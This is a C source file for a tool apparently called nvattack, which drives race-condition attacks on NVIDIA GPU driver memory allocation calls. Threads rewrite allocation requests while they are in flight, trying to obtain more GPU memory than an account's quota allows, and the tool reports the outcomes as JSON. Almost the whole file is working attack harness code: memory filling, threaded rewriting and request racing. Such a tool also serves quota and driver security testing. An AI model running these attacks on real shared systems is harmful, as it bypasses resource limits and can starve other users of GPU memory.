// SPDX-License-Identifier: Apache-2.0
/* Tries to get more of a GPU's memory than an account allows, by every way that there is to change a call under way. */
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "options.h"

#define MOST_WAYS	64
#define BALLAST		(16ull << 20)

static const char usage[] =
	"[--ways LIST] [--threads N] [--seconds S] [--fill SIZE] [--slack SIZE] [--gpu N] [--seed N] [--told] [--list]\n"
	"Holds SIZE of a GPU's memory, then races for more; prints a JSON line for each way. Judge by what the GPU says that\n"
	"it handed out at most: this program cannot know whether it won.\n"
	"  --ways LIST   of those that --list shows, separated by commas (all)\n"
	"  --threads N   2 to 64 (8): for ways by rewriting one half asks, the other half rewrites\n"
	"  --seconds S   all ways together (10)\n"
	"  --fill SIZE   held all the time: the account's limit less the slack (0)\n"
	"  --slack SIZE  what the account has left then (4m)\n"
	"  --told        races only once its standard input says so: others of the account may not hold theirs yet\n"
	"example: nvattack --threads 8 --seconds 60 --fill 60m --slack 4m";

static struct attack attack;

u64 lane_random(struct lane *lane)
{
	lane->random ^= lane->random << 13;
	lane->random ^= lane->random >> 7;
	lane->random ^= lane->random << 17;
	return lane->random;
}

void lane_count(struct lane *lane, u32 status)
{
	struct count *count;

	lane->attempts++;
	lane->granted += !status;
	lane->refused += status == NV_ERR_NO_MEMORY;
	for (count = lane->statuses; count < lane->statuses + MOST_STATUSES - 1; count++)
		if (!count->times || count->status == status)
			break; /* the last one collects what has no place */
	count->status = status;
	count->times++;
}

void lane_free(struct lane *lane)
{
	nv_free(&lane->attack->nv, lane->attack->client, lane->attack->device, lane->handle);
	nv_free(&lane->attack->nv, lane->attack->client, lane->attack->device, lane->other);
}

u32 attack_memory(struct lane *lane, u32 client, u32 device, u32 handle, u64 bytes)
{
	const struct nv_memory_request ask = { .class = NV01_MEMORY_LOCAL_USER, .size = bytes };

	return nv_memory(&lane->attack->nv, client, device, &handle, &ask, NULL);
}

static void choose_sizes(struct lane *lane)
{
	static const u64 above[] = { PIECE, 1ull << 20, 2ull << 20, 16ull << 20, 64ull << 20 };

	lane->small = PIECE << (lane_random(lane) % 3);
	if (lane->small > lane->attack->slack / lane->attack->lanes)
		lane->small = PIECE;
	lane->big = lane->attack->slack + above[lane_random(lane) % (sizeof(above) / sizeof(above[0]))];
}

static void *ask(void *data)
{
	struct lane *lane = data;
	const struct way *way = lane->attack->way;
	u32 status;

	while (atomic_load_explicit(&lane->attack->asking, memory_order_relaxed)) {
		if (!way->prepare) {
			choose_sizes(lane);
			status = way->ask(lane);
			if (way->ask != racing_ways[0].ask) /* that one counts by itself */
				lane_count(lane, status);
			continue;
		}
		way->prepare(lane);
		status = way->ask(lane);
		lane_count(lane, status);
		if (!status || way->blind)
			lane_free(lane);
	}
	return NULL;
}

static void *rewrite(void *data)
{
	const u32 nr = (u32)(uintptr_t)data;
	struct lane own = { .attack = &attack, .random = 0x9e3779b97f4a7c15ull * (nr + 1) };
	u32 each, spin;

	while (atomic_load_explicit(&attack.rewriting, memory_order_relaxed)) {
		/* every rewriter works on every lane: whichever thread asks, one that rewrites runs beside it */
		for (each = 0; each < attack.lanes; each++) {
			attack.way->rewrite(&attack.lane[(each + nr) % attack.lanes], lane_random(&own) & 1);
			for (spin = lane_random(&own) & 0x3f; spin; spin--)
				__asm__ volatile("" ::: "memory");
		}
	}
	return NULL;
}

static void start_thread(pthread_t *thread, void *(*body)(void *), void *data)
{
	int error = pthread_create(thread, NULL, body, data);

	if (error)
		nv_die("start a thread: %s", strerror(error));
}

static void report(double seconds)
{
	struct count all[MOST_STATUSES] = { 0 };
	u64 attempts = 0, granted = 0, refused = 0;
	struct lane *lane;
	u32 i, k;

	for (lane = attack.lane; lane < attack.lane + attack.lanes; lane++) {
		attempts += lane->attempts;
		granted += lane->granted;
		refused += lane->refused;
		for (i = 0; i < MOST_STATUSES && lane->statuses[i].times; i++) {
			for (k = 0; k < MOST_STATUSES - 1; k++)
				if (!all[k].times || all[k].status == lane->statuses[i].status)
					break;
			all[k].status = lane->statuses[i].status;
			all[k].times += lane->statuses[i].times;
		}
		lane->attempts = 0;
		lane->granted = 0;
		lane->refused = 0;
		memset(lane->statuses, 0, sizeof(lane->statuses));
	}
	printf("{\"way\": \"%s\", \"seconds\": %.2f, \"attempts\": %llu, \"granted\": %llu, \"refused\": %llu, \"statuses\": {",
	       attack.way->name, seconds, (unsigned long long)attempts, (unsigned long long)granted, (unsigned long long)refused);
	for (k = 0; k < MOST_STATUSES && all[k].times; k++)
		printf("%s\"0x%x\": %llu", k ? ", " : "", all[k].status, (unsigned long long)all[k].times);
	printf("}}\n");
}

static void run(const struct way *way, u32 threads, double seconds)
{
	pthread_t asking[MOST_LANES], rewriting[MOST_LANES];
	double begin;
	u32 i;

	attack.way = way;
	attack.lanes = way->rewrite ? threads / 2 : threads;
	attack.rewriters = threads - attack.lanes;
	if (way->start)
		way->start(&attack);
	for (i = 0; way->prepare && i < attack.lanes; i++) {
		choose_sizes(&attack.lane[i]);
		way->prepare(&attack.lane[i]);
	}
	atomic_store(&attack.asking, true);
	atomic_store(&attack.rewriting, true);
	begin = nv_now();
	for (i = 0; i < attack.rewriters; i++)
		start_thread(&rewriting[i], rewrite, (void *)(uintptr_t)i);
	for (i = 0; i < attack.lanes; i++)
		start_thread(&asking[i], ask, &attack.lane[i]);
	nv_sleep(seconds);
	atomic_store(&attack.asking, false);
	for (i = 0; i < attack.lanes; i++) /* those that wait for a page are still served */
		pthread_join(asking[i], NULL);
	atomic_store(&attack.rewriting, false);
	for (i = 0; i < attack.rewriters; i++)
		pthread_join(rewriting[i], NULL);
	if (way->stop)
		way->stop(&attack);
	for (i = 0; i < attack.lanes; i++)
		lane_free(&attack.lane[i]);
	report(nv_now() - begin);
}

static u32 device_of(u32 client, u32 gpu, u32 *device)
{
	u8 params[256] = { 0 };

	*device = nv_next_handle(&attack.nv);
	rm_put32(params, attack.nv.abi->device.deviceId, gpu);
	return nv_alloc(&attack.nv, client, client, device, NV01_DEVICE_0, params, attack.nv.abi->device.len);
}

static void open_gpu(u32 gpu, const char *version)
{
	char name[24];
	u32 status;

	nv_must_open(&attack.nv, version);
	attack.gpu_number = gpu;
	attack.version = version;
	snprintf(name, sizeof(name), "nvidia%u", gpu);
	attack.gpu = nv_must_open_device(name);
	status = nv_root(&attack.nv, &attack.client);
	if (!status)
		status = nv_root(&attack.nv, &attack.second);
	if (!status)
		status = device_of(attack.client, gpu, &attack.device);
	if (!status)
		status = device_of(attack.second, gpu, &attack.second_device);
	if (status)
		nv_die("open GPU %u: status 0x%x %s", gpu, status, nv_status_name(status));
}

static void fill(u64 bytes)
{
	u64 size, held = 0, granted;
	u32 status, handle;

	while (held < bytes) {
		const struct nv_memory_request ask = { .class = NV01_MEMORY_LOCAL_USER,
						       .size = bytes - held < BALLAST ? bytes - held : BALLAST };

		size = ask.size;
		handle = nv_next_handle(&attack.nv);
		status = nv_memory(&attack.nv, attack.client, attack.device, &handle, &ask, &granted);
		if (status)
			nv_die("hold %llu bytes: %llu more after %llu: status 0x%x %s", (unsigned long long)bytes,
			       (unsigned long long)size, (unsigned long long)held, status, nv_status_name(status));
		held += granted;
	}
	printf("{\"event\": \"filled\", \"bytes\": %llu}\n", (unsigned long long)held);
}

static void open_lanes(u64 seed)
{
	struct lane *lane;
	u32 i;

	for (i = 0; i < 2; i++) {
		attack.pages[i] = memfd_create("request", MFD_CLOEXEC);
		if (attack.pages[i] < 0 || ftruncate(attack.pages[i], (off_t)MOST_LANES * PAGE))
			nv_die("make a memory file: %s", strerror(errno));
	}
	for (i = 0; i < MOST_LANES; i++) {
		lane = &attack.lane[i];
		lane->attack = &attack;
		lane->nr = i;
		lane->random = (seed + i + 1) * 0x2545f4914f6cdd1dull;
		lane->handle = NV_OBJECTS + 0x100000 + i * 0x1000;
		lane->other = lane->handle + 0x800;
		lane->arena = mmap(NULL, ARENA_PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (lane->arena == MAP_FAILED)
			nv_die("map a lane's blocks: %s", strerror(errno));
	}
}

static u32 all_ways(const struct way **ways)
{
	const struct way *way;
	u32 n = 0;

	for (way = rewriting_ways; way->name; way++)
		ways[n++] = way;
	for (way = racing_ways; way->name; way++)
		ways[n++] = way;
	for (way = keeping_ways; way->name; way++)
		ways[n++] = way;
	for (way = bound_ways; way->name; way++)
		ways[n++] = way;
	return n;
}

static u32 chosen_ways(const char *list, const struct way **ways)
{
	const struct way *all[MOST_WAYS];
	u32 count = all_ways(all), n = 0, i;
	char *name, *rest = strdup(list);

	while ((name = strsep(&rest, ","))) {
		for (i = 0; i < count && strcmp(all[i]->name, name); i++)
			;
		if (i == count || n == MOST_WAYS) {
			fprintf(stderr, "%s: no way is called %s; see --list\n", nv_name, name);
			exit(2);
		}
		ways[n++] = all[i];
	}
	return n;
}

int nvattack_main(int argc, char **argv)
{
	const struct way *ways[MOST_WAYS];
	const char *version = NULL, *list = NULL;
	u32 threads = 8, gpu = 0, n = all_ways(ways), i;
	u64 held = 0, seed = 1;
	double seconds = 10;
	bool show = false, told = false;
	const struct nv_option options[] = {
		NV_OPTION("ways", &list),
		NV_OPTION("threads", &threads),
		NV_OPTION("seconds", &seconds),
		NV_OPTION("fill", &held),
		NV_OPTION("slack", &attack.slack),
		NV_OPTION("gpu", &gpu),
		NV_OPTION("seed", &seed),
		NV_OPTION("version", &version),
		NV_OPTION("told", &told),
		NV_OPTION("list", &show),
		{ 0 },
	};

	attack.slack = 4ull << 20;
	if (nv_options(argc, argv, usage, options) != argc || threads < 2 || threads > MOST_LANES)
		nv_usage(usage, 2);
	if (list)
		n = chosen_ways(list, ways);
	for (i = 0; show && i < n; i++)
		printf("%-14s %s\n", ways[i]->name, ways[i]->about);
	if (show)
		return 0;
	open_gpu(gpu, version);
	open_lanes(seed);
	fill(held);
	fflush(stdout);
	if (told)
		getchar();
	for (i = 0; i < n; i++)
		run(ways[i], threads, seconds / n);
	return 0;
}
